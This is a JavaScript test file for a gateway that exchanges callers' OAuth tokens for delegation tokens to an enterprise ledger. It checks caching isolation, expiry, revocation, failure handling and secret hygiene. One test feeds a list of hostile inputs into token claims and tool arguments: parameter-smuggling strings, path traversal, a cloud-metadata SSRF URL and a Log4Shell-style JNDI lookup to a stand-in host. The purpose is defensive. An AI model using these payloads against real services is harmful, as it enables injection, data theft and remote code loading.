// Rows C: what is remembered of one call must not serve another, and what a caller says must not change what is asked for it.
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { after, afterEach, before, describe } from 'node:test';
import { LEDGER } from '../../../demo/enterprise-ledger/delegation-token.mjs';
import { basicCredential, readJson } from '../../../demo/keys.mjs';
import { JOHN, SARAH } from '../../../demo/people.mjs';
import { until } from '../../../demo/process.mjs';
import { call, LIST_ACCOUNTS, toolCall } from '../support/client.mjs';
import { auditOf, readablePlaces } from '../support/records.mjs';
import { ACCESS_TOKEN, reply, startScriptedStack } from '../support/scripted-authorization-server.mjs';
import { pushing } from '../support/stack.mjs';
import { each, rowsOf } from '../support/tables.mjs';
import { decode, delegationToken, fingerprint, inboundToken } from '../support/tokens.mjs';
import { ROWS } from './rows-tokens.mjs';

const row = rowsOf(ROWS);
const SEARCH = 'https://search.example/';
const LIFETIME = 5;
const seconds = () => Math.floor(Date.now() / 1000);

describe('what is remembered of an exchange', () => {
  let stack;
  let scripted;
  before(async () => {
    const edit = pushing(({ policies: { 'enterprise-ledger': { tools } } }) => {
      tools.searchAccounts = { delegation: { scope: 'ledger:ListAccounts', audience: SEARCH } };
      tools.getAccountOnce = { delegation: { scope: 'ledger:GetAccount', authorization_details: { type: 'ledger_call', arguments: ['accountId'] } } };
    });
    ({ stack, scripted } = await startScriptedStack({ gateway: { edit, set: { 'issuers[0].leeway': '0s' }, workers: 1 } }));
  });
  after(() => stack?.stop());
  afterEach(() => { scripted.script = scripted.passOn; });

  /** The forms of the exchanges that `calls` led to. */
  async function exchangesOf(calls) {
    const before = scripted.asked.length;
    await calls();
    return scripted.asked.slice(before);
  }
  const served = async (client, body = LIST_ACCOUNTS) => assert.equal((await call(stack, client.token, body)).status, 200);
  /** The scripted server's own token for whatever is asked, with `claims` of the subject's. */
  const minting = (claims = () => ({})) => async (request, response, body) => {
    const form = new URLSearchParams(body.toString());
    const { sub } = decode(form.get('subject_token'));
    reply(response, 200, { access_token: delegationToken(stack, form, { sub, ...claims(form) }), issued_token_type: ACCESS_TOKEN, token_type: 'Bearer', expires_in: LIFETIME });
  };

  row('C03', async () => {
    scripted.script = minting();
    const [sarah, john] = [SARAH, JOHN].map(({ user: sub }) => inboundToken(stack, { sub }));
    const others = [{}, { client_id: 'another-client' }, { scope: 'mcp:connect' }, { jti: sarah.id, acr: 'another' }].map((changes) => inboundToken(stack, changes));
    const forms = await exchangesOf(async () => {
      for (let again = 0; again < 2; again += 1) {
        for (const client of [sarah, john, ...others]) await served(client);
        await served(sarah, toolCall('getAccount', { accountId: 'ACC-1001' }));
        await call(stack, sarah.token, toolCall('searchAccounts'));
      }
    });
    const keys = forms.map((form) => [fingerprint(form.get('subject_token')), form.get('audience'), form.get('scope')].join(' '));
    const expected = [...[sarah, john, ...others].map(({ token }) => [fingerprint(token), LEDGER, 'ledger:ListAccounts'].join(' ')), [fingerprint(sarah.token), LEDGER, 'ledger:GetAccount'].join(' '), [fingerprint(sarah.token), SEARCH, 'ledger:ListAccounts'].join(' ')];
    // One of each, unless a slow machine outlives it.
    assert.deepEqual([...new Set(keys)].sort(), expected.sort());
    for (const { sub, id } of [{ sub: SARAH.user, id: sarah.id }, { sub: JOHN.user, id: john.id }]) {
      for (const { delegation } of await auditOf(stack, id, 2)) {
        const seen = stack.ledgerRequests().filter(({ claims }) => claims?.jti === delegation.token_id);
        assert.ok(seen.length && seen.every(({ claims }) => claims.sub === sub));
      }
    }
  });

  row('C04', async () => {
    scripted.script = minting(() => ({ exp: seconds() + 3, iat: seconds() - 1 }));
    const exp = seconds() + 3;
    const client = inboundToken(stack, { exp });
    await served(client);
    await until(async () => (await call(stack, client.token)).status === 401, 'the end of the caller\'s token');
    assert.ok(Date.now() / 1000 >= exp);
    const after = stack.ledgerRequests().length;
    assert.equal((await call(stack, client.token)).status, 401, 'though its delegation is known');
    assert.equal(stack.ledgerRequests().length, after);
  });

  row('K33', async () => {
    const client = inboundToken(stack);
    const other = inboundToken(stack);
    await served(client);
    scripted.script = (request, response, body) => {
      const revoked = new URLSearchParams(body.toString()).get('subject_token') === client.token;
      return revoked ? reply(response, 400, { error: 'invalid_grant' }) : scripted.passOn(request, response, body);
    };
    await until(async () => {
      const answer = await call(stack, client.token);
      if (answer.status === 401) assert.match(answer.headers['www-authenticate'], /error="invalid_token"/);
      return answer.status === 401;
    }, 'the end of what the revoked token was exchanged for', { seconds: 3 * LIFETIME });
    const before = stack.ledgerRequests().length;
    assert.equal((await call(stack, client.token)).status, 401);
    assert.equal(stack.ledgerRequests().length, before);
    await served(other);
  });

  const HOSTILE = ['a&audience=https://evil.example/&scope=ledger:ReadPII', 'a%26scope%3Dledger:ReadPII', 'a=b;c#d?e', '../../admin', '//evil.example/', 'http://169.254.169.254/latest', '{audience}', '${jndi:ldap://evil.example}', 'a+b %00', 'ünïcode😀', '" \' \\ < >'];
  row('C07', async () => {
    const requests = [];
    scripted.script = async (request, response, body) => {
      requests.push({ url: request.url, method: request.method, host: request.headers.host, names: request.rawHeaders.filter((_, i) => i % 2 === 0).map((name) => name.toLowerCase()), form: new URLSearchParams(body.toString()) });
      await minting()(request, response, body);
    };
    await each(HOSTILE, async (text) => {
      const claims = { sub: text, client_id: text, jti: `${randomUUID()} ${text}`, scope: `mcp:connect ${text.replaceAll(' ', '')}`, audience: text, resource: text, acr: text };
      const { token } = inboundToken(stack, claims);
      await call(stack, token, toolCall('getAccount', { accountId: text, audience: text, scope: text, path: text }));
      const { form, names, ...rest } = requests.at(-1);
      assert.deepEqual(rest, { url: '/token', method: 'POST', host: new URL(stack.authorizationServerUrl).host });
      assert.deepEqual([...form.keys()].sort(), ['audience', 'grant_type', 'requested_token_type', 'scope', 'subject_token', 'subject_token_type']);
      assert.deepEqual([form.get('subject_token'), form.get('audience'), form.get('scope')], [token, LEDGER, 'ledger:GetAccount']);
      assert.equal(new Set(names).size, names.length, 'no header twice');
    });
    assert.equal(requests.length, HOSTILE.length);
  });

  row('C07', async () => {
    let form;
    scripted.script = (request, response, body) => {
      form = new URLSearchParams(body.toString());
      return reply(response, 400, { error: 'access_denied' });
    };
    await each(HOSTILE, async (text) => {
      const { token } = inboundToken(stack);
      await call(stack, token, toolCall('getAccountOnce', { accountId: text }));
      const [details, ...more] = JSON.parse(form.get('authorization_details'));
      assert.deepEqual([details.type, more, form.get('audience'), form.get('scope')], ['ledger_call', [], LEDGER, 'ledger:GetAccount']);
      assert.equal(JSON.stringify(details).split(JSON.stringify(text)).length, 2);
      assert.equal([...form.keys()].length, new Set(form.keys()).size);
    });
  });

  row('C11', async () => {
    const scripts = {
      'no answer but an end': [503, -32603, (request) => request.socket.destroy()],
      denied: [200, 403, (request, response) => reply(response, 400, { error: 'access_denied' })],
      'an error': [503, -32603, (request, response) => reply(response, 500, {})],
      'no token': [502, -32603, (request, response) => reply(response, 200, {})],
      'an empty token': [502, -32603, (request, response) => reply(response, 200, { access_token: '', issued_token_type: ACCESS_TOKEN, token_type: 'Bearer', expires_in: 5 })],
      'the same token': [502, -32603, (request, response, body) => reply(response, 200, { access_token: new URLSearchParams(body.toString()).get('subject_token'), issued_token_type: ACCESS_TOKEN, token_type: 'Bearer', expires_in: 5 })],
    };
    await each(Object.entries(scripts), async ([, [expected, code, script]]) => {
      scripted.script = script;
      const [before, { token, id }] = [stack.ledgerRequests().length, inboundToken(stack)];
      for (const body of [LIST_ACCOUNTS, JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'ping' }), JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/list' })]) {
        const { status, message } = await call(stack, token, body);
        assert.deepEqual([status, message.error.code], [expected, code]);
      }
      const records = await auditOf(stack, id, 3);
      assert.ok(records.every(({ reason, upstream_status: upstream }) => /^exchange_/.test(reason) && upstream === undefined), JSON.stringify(records));
      assert.equal(stack.ledgerRequests().length, before);
    });
    const inbound = new Set(scripted.asked.map((form) => fingerprint(form.get('subject_token'))));
    assert.ok(stack.ledgerRequests().every(({ token }) => !inbound.has(token)));
  });

  row('C12', async () => {
    const credential = basicCredential(readJson(stack.keys.gatewayClient));
    const seen = [];
    scripted.script = (request, response, body) => {
      seen.push({ url: request.url, headers: request.headers, form: new URLSearchParams(body.toString()), body: body.toString() });
      return scripted.passOn(request, response, body);
    };
    const { token } = inboundToken(stack);
    // What the client calls an actor, or a type, is not asked.
    await call(stack, token, toolCall('listAccounts', { actor_token: 'x', subject_token_type: 'urn:ietf:params:oauth:token-type:id_token' }));
    assert.equal(seen.length, 1);
    const [{ url, headers, form, body }] = seen;
    assert.deepEqual([url, headers.authorization, headers['content-type']], ['/token', credential, 'application/x-www-form-urlencoded']);
    assert.deepEqual([form.getAll('subject_token'), form.getAll('subject_token_type'), form.has('actor_token'), form.has('client_secret')], [[token], [ACCESS_TOKEN], false, false]);
    const { client_secret: secret } = readJson(stack.keys.gatewayClient);
    assert.ok(!body.includes(secret) && !Object.entries(headers).some(([name, value]) => name !== 'authorization' && `${value}`.includes(token)));
    for (const [place, text] of await readablePlaces(stack)) {
      for (const hidden of [secret, credential, token]) assert.ok(!text.includes(hidden), place);
    }
  });
});
